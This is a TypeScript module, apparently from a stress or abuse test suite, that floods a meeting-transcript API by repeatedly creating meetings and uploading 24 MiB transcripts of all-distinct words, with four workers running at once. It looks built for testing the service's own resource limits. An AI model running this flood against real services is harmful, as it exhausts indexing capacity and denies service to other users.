import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'

const MIB = 1024 * 1024
const SEGMENTS = 500
const IMPORTS_AT_ONCE = 4
/** Just below the limit of different words: the largest file that is accepted and indexed. */
const MOST_DIFFERENT_WORDS = 199_000

/** A transcript of so many bytes whose words are all different. */
function distinctWords(bytes: number, words: number): string {
  const length = Math.floor(bytes / words) - 1
  const perSegment = Math.ceil(words / SEGMENTS)
  const wordAt = (index: number) => index.toString(36).padEnd(length, 'w')
  const segments = Array.from({ length: SEGMENTS }, (_, segment) => ({
    speaker: 'Ada',
    text: Array.from({ length: Math.min(perSegment, words - segment * perSegment) }, (_, word) =>
      wordAt(segment * perSegment + word),
    ).join(' '),
    start: segment,
    end: segment + 1,
  }))
  return JSON.stringify({ segments })
}

/** Imports files of nothing but different words, over and over, into meetings of one account. */
export async function attack({ baseUrl, apiKey, signal }: Attack): Promise<void> {
  const bodies = [distinctWords(24 * MIB, 3_000_000), distinctWords(24 * MIB, MOST_DIFFERENT_WORDS)]
  const headers = { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' }
  async function call(method: string, path: string, body: string): Promise<Record<string, string>> {
    for (;;) {
      const response = await fetch(baseUrl + path, { method, headers, body, signal })
      if (response.status !== 429) return (await response.json()) as Record<string, string>
      await response.arrayBuffer()
      const seconds = Number(response.headers.get('retry-after') ?? 1)
      await sleep(seconds * 1_000, undefined, { signal })
    }
  }
  async function importAgainAndAgain(worker: number): Promise<void> {
    for (let round = worker; !signal.aborted; round++) {
      const meeting = { title: 'Attack', platform: 'zoom', started_at: '2026-01-31T09:30:00Z' }
      const { id } = await call('POST', '/meetings', JSON.stringify(meeting))
      await call('PUT', `/meetings/${id}/transcript`, bodies[round % bodies.length] as string)
    }
  }
  await Promise.all(Array.from({ length: IMPORTS_AT_ONCE }, (_, worker) => importAgainAndAgain(worker)))
}
